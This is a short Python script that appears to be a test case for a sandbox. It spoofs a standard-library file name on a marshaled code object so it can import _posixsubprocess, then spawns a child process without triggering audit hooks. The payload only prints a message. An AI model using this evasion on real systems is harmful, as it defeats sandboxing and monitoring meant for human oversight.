# family: spoofed_filename
# reaches: process
# layer: runtime
# static: denied
# marshal.loads is not refused: a code object shipped as data carries whatever file name it was
# compiled under (here one in the standard library). A thread runs it (exec called by
# threading.Thread.run, library code), and the code, "library" by its name, imports freely.
import base64
import os
import sys
import threading

marshal = sys.modules["marshal"]
BLOB = (
    "4wAAAAAAAAAAAAAAAAIAAAAAAAAA8w4AAACXAGQAZAFsAFoBZAFTACkC6QAAAABOKQLaEF9wb3NpeHN1YnByb2Nlc3Pa"
    "AnBzqQDzAAAAAPojL3Vzci9saWIvcHl0aG9uMy4xMS9qc29uL19wbHVnaW4ucHn6CDxtb2R1bGU+cggAAAABAAAAcxcA"
    "AADwAwEBAdgAHdAAHdAAHdAAHdAAHdAAHXIGAAAA"
)

def spawn(ps):
    """A child process through the module subprocess is built on (it raises no audit event)."""
    r, w = os.pipe()
    exe = sys.executable.encode()
    pid = ps.fork_exec([exe, b"-c", b"print(\x27child process\x27)"], [exe], True, (w,), None, None,
                       -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, True)
    os.close(w)
    os.read(r, 64)
    return os.waitpid(pid, 0)


code = marshal.loads(base64.b64decode(BLOB))
ns = {}
t = threading.Thread(target=exec, args=(code, ns))
t.start()
t.join()
print(spawn(ns["ps"]))
